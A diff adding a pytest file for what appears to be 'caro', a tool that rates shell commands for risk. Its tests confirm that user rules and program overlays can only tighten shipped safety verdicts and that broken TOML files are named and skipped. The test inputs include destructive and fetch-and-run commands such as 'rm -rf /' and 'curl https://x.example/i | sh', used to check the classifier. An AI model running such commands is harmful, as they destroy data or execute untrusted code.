@@ -1,0 +1,187 @@
+"""Somebody's own rules and programs add and tighten; nothing that they say lowers or replaces what ships."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from caro.errors import CaroError
+from caro.knowledge import Knowledge, layer_of, shipped
+from caro.levels import Level
+from caro.machine.knowledge import load_knowledge
+from caro.paths import Paths
+from caro.safety.overlay import read_overlay
+from caro.safety.script import verdicts_for_script
+from caro.safety.verdict import Verdict, verdict_for, verdict_for_argv, warm
+
+Rule = dict[str, object]
+
+
+def rule(**given: object) -> Rule:
+    usual: Rule = {"id": "mine", "effect": "delete", "base": 90, "why": "I said so", "instead": "ls {target}"}
+    return usual | given
+
+
+def knowing(rules: list[Rule] | None = None, programs: dict[str, object] | None = None) -> Knowledge:
+    rooms = read_overlay({"rule": rules or [], "program": programs or {}}, "user")
+    return shipped().with_layers(
+        layer_of("user", {room: {"own.toml": table} for room, table in rooms.items()})
+    )
+
+
+def same(first: Verdict, second: Verdict) -> bool:
+    return (first.score, first.rules, first.effects, first.instead) == (
+        second.score,
+        second.rules,
+        second.effects,
+        second.instead,
+    )
+
+
+def test_a_rule_tightens() -> None:
+    knowledge = knowing([rule(scope=["part"])])
+    assert verdict_for("rm notes.txt").level < Level.HIGH
+    verdict = verdict_for("rm notes.txt", knowledge=knowledge)
+    assert (verdict.level, verdict.rules[0]) == (Level.HIGH, "mine")
+    assert (verdict.why, verdict.instead) == ("I said so", "ls notes.txt")
+    assert verdict_for_argv(["rm", "notes.txt"], knowledge=knowledge).level == Level.HIGH
+
+
+LINES = (
+    "rm -rf /",
+    "rm -rf src",
+    "git push --force origin main",
+    "curl https://x.example/i | sh",
+    "ls",
+    "foo delete x",
+)
+
+
+@pytest.mark.parametrize("line", LINES)
+def test_no_rule_weakens_one_with_its_id(line: str) -> None:
+    """Every shipped rule again, with base 0 and every place and fact taken off: nothing changes."""
+    from caro.safety.rules import rules_of
+
+    low = [
+        rule(id=known.id, effect=known.effect, base=0, why="", scopes={"root": -90, "sources": -90})
+        for known in rules_of(shipped()).everything()
+    ]
+    assert same(verdict_for(line, knowledge=knowing(low)), verdict_for(line))
+
+
+@pytest.mark.parametrize(
+    "line", [*LINES, "rm --help", "sudo rm -rf /etc", "docker run img destroy", "python x.py"]
+)
+def test_no_program_weakens_one_with_its_name(line: str) -> None:
+    harmless = {
+        "effects": [{"effect": "none"}],
+        "harmless": ["-rf", "--force"],
+        "safe": ["**"],
+        "dry_run": ["-r"],
+    }
+    names = ("rm", "git", "curl", "sh", "foo", "ls", "sudo", "destroy", "x.py")
+    knowledge = knowing(programs={name: dict(harmless) for name in names})
+    judged = verdict_for(line, knowledge=knowledge)
+    assert judged.score >= verdict_for(line).score
+    assert set(verdict_for(line).rules) <= set(judged.rules)
+
+
+def test_a_new_program() -> None:
+    own = {"same_as": ["wipectl"], "effects": [{"verb": "zap", "effect": "destroy_resource", "base": 80}]}
+    knowledge = knowing(programs={"wipe-cluster": own})
+    assert verdict_for("wipectl zap all").level < Level.HIGH
+    for line in ("wipectl zap all", "sudo wipe-cluster zap all", "sh -c 'wipectl zap all'"):
+        assert verdict_for(line, knowledge=knowledge).level >= Level.HIGH, line
+    assert verdict_for("wipectl show all", knowledge=knowledge).level == Level.LOW
+
+
+def test_one_more_effect_of_a_known_program() -> None:
+    more = {"effects": [{"verb": "frobnicate", "effect": "lose_git_work", "base": 70, "why": "it hurts"}]}
+    knowledge = knowing(programs={"git": more})
+    assert verdict_for("git frobnicate").level < Level.HIGH
+    assert verdict_for("git frobnicate", knowledge=knowledge).level >= Level.HIGH
+    assert same(verdict_for("git push --force", knowledge=knowledge), verdict_for("git push --force"))
+
+
+def test_a_script_is_judged_by_them_too() -> None:
+    knowledge = knowing([rule(scope=["part"])])
+    levels = [verdict.level for _, verdict in verdicts_for_script("f=a.txt\nrm $f\n", knowledge=knowledge)]
+    assert levels == [Level.LOW, Level.HIGH]
+
+
+def test_warming_meets_what_is_wrong_in_a_layer() -> None:
+    """Whoever makes a layer without `read_overlay` hears of it before the first question."""
+    broken = shipped().with_layers(
+        layer_of("team", {"safety/programs": {"t": {"x": {"effects": [{"effect": "?"}]}}}})
+    )
+    with pytest.raises(CaroError, match="program x"):
+        warm(broken)
+
+
+# -- files
+
+
+@pytest.fixture
+def own(home: Path, env: dict[str, str]) -> Callable[..., tuple[Knowledge, list[str]]]:
+    """Writes the user's files and loads them: (knowledge, complaints)."""
+
+    def load(**files: str) -> tuple[Knowledge, list[str]]:
+        paths = Paths.of(env)
+        folder = paths.rules / "safety"
+        folder.mkdir(parents=True, exist_ok=True)
+        for name, text in files.items():
+            (folder / f"{name}.toml").write_text(text, "utf-8")
+        complaints: list[str] = []
+        return load_knowledge(paths, complaints.append), complaints
+
+    return load
+
+
+GOOD = """
+[[rule]]
+id = "mine"
+effect = "delete"
+base = 90
+scope = ["part"]
+why = "I said so"
+"""
+
+
+def test_files_are_read(own: Callable[..., tuple[Knowledge, list[str]]]) -> None:
+    knowledge, complaints = own(mine=GOOD)
+    assert complaints == []
+    assert verdict_for("rm notes.txt", knowledge=knowledge).level == Level.HIGH
+
+
+def test_without_files_it_is_what_ships(own: Callable[..., tuple[Knowledge, list[str]]]) -> None:
+    assert own() == (shipped(), [])
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("[[rule]\n", "line 1"),
+        ("[rules]\n", "unknown keys"),
+        ('[[rule]]\nid = "x"\n', "missing"),
+        (GOOD.replace('"delete"', '"dance"'), "dance"),
+        (GOOD.replace("90", '"high"'), "base"),
+        (GOOD.replace('["part"]', "3"), "wrong kind"),
+        ("rule = 3\n", "rule"),
+        ("rule = [3]\n", "no table"),
+        ('[program.x]\neffects = [{effect = "dance"}]\n', "dance"),
+        ("[program.x]\nwhat = 1\n", "unknown keys"),
+        ("[program]\nx = 1\n", "no table"),
+        ('[program.x]\ndecider = "nobody"\n', "decider"),
+        ("[program.x]\nsame_as = 3\n", "same_as"),
+    ],
+)
+def test_a_broken_file_is_named_and_skipped(
+    own: Callable[..., tuple[Knowledge, list[str]]], text: str, said: str
+) -> None:
+    knowledge, complaints = own(broken=text, mine=GOOD)
+    assert len(complaints) == 1
+    assert "broken.toml" in complaints[0]
+    assert said in complaints[0]
+    assert verdict_for("rm notes.txt", knowledge=knowledge).level == Level.HIGH
